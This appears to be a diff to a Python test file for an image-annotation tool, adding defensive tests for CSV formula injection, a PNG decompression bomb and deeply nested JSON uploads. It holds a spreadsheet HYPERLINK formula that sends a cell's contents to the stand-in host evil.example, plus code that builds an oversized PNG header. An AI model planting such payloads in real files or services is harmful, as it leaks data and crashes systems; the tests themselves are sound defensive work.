@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import io
 import json
@@ -112,6 +113,36 @@ def test_audit_csv():
     assert audit_csv(frame).splitlines()[1] == f"m,{K1},agree"
     with pytest.raises(ExportError, match="no audit verdicts"):
         audit_csv(frame.iloc[0:0])
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"see")'
+
+
+def test_a_comment_a_spreadsheet_would_run_is_exported_as_text_and_read_back():
+    """CSV injection: a reader's comment starting with '=' (or +, -, @) became a formula in
+    the Excel of whoever opened the export."""
+    m = ImageMarks(K1, "ann", image_shape=IMAGES[K1]).add_point(10, 20, "benign", FORMULA)
+    m = m.add_point(30, 20, "benign", "-1 ok")
+    text = points_csv([m])
+    cells = [row[6] for row in csv.reader(io.StringIO(text))][1:]
+    assert cells == ["'" + FORMULA, "'-1 ok"]
+    plan = parse_points_csv(text, IMAGES)
+    assert plan.report.ok, plan.report.text()
+    assert [p.comment for p in plan.marks[0].points] == [FORMULA, "-1 ok"]
+
+
+def test_the_audit_export_writes_readers_text_as_text_and_scores_as_numbers():
+    frame = pd.DataFrame(
+        [{"model_id": "m", "reader": "@ann", "comment": FORMULA, "score": -0.5, "agree": True}]
+    )
+    (row,) = list(csv.DictReader(io.StringIO(audit_csv(frame))))
+    assert row == {
+        "model_id": "m",
+        "reader": "'@ann",
+        "comment": "'" + FORMULA,
+        "score": "-0.5",
+        "agree": "True",
+    }
 
 
 @pytest.mark.parametrize("export", [points_csv, coco_dict, masks_zip])
@@ -499,6 +530,40 @@ MASK_CASES = [
 def test_mask_validation(name, data, key, message):
     plan = parse_mask_png(data, key, IMAGES, reader="ann")
     assert not plan.report.ok and message in _problems(plan)
+
+
+def test_a_mask_whose_header_declares_another_size_is_refused_undecoded(monkeypatch):
+    """A PNG of zeros compresses about 1000:1: a few MB uploaded by any reader can declare
+    32000x32000 16-bit RGBA (8 GB decoded); its size is read from the header first."""
+    import struct
+    import zlib
+
+    from mcalc.store.exchange import validate
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        crc = struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+        return struct.pack(">I", len(data)) + kind + data + crc
+
+    ihdr = struct.pack(">IIBBBBB", 32000, 32000, 16, 6, 0, 0, 0)
+    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 99))
+
+    def no_decode(*args, **kwargs):
+        raise AssertionError("decoded before its size was checked")
+
+    monkeypatch.setattr(validate.cv2, "imdecode", no_decode)
+    plan = parse_mask_png(bomb, K1, IMAGES, reader="ann")
+    assert not plan.report.ok
+    assert "wrong size: the mask is 32000x32000, the image case-1/CC_recent is 100x80" in _problems(
+        plan
+    )
+
+
+@pytest.mark.parametrize("parse", [parse_json, parse_coco, parse_marks_json])
+@pytest.mark.parametrize("data", [b"[" * 200_000, b'{"a":' * 200_000])
+def test_json_nested_too_deeply_is_a_problem_not_a_crash(parse, data):
+    """Any reader's upload of '[[[[...' raised RecursionError out of the Annotate page."""
+    plan = parse(data, IMAGES, default_reader="ann")
+    assert not plan.report.ok and "nested too deeply" in _problems(plan)
 
 
 # --------------------------------------------------------------------------- applying
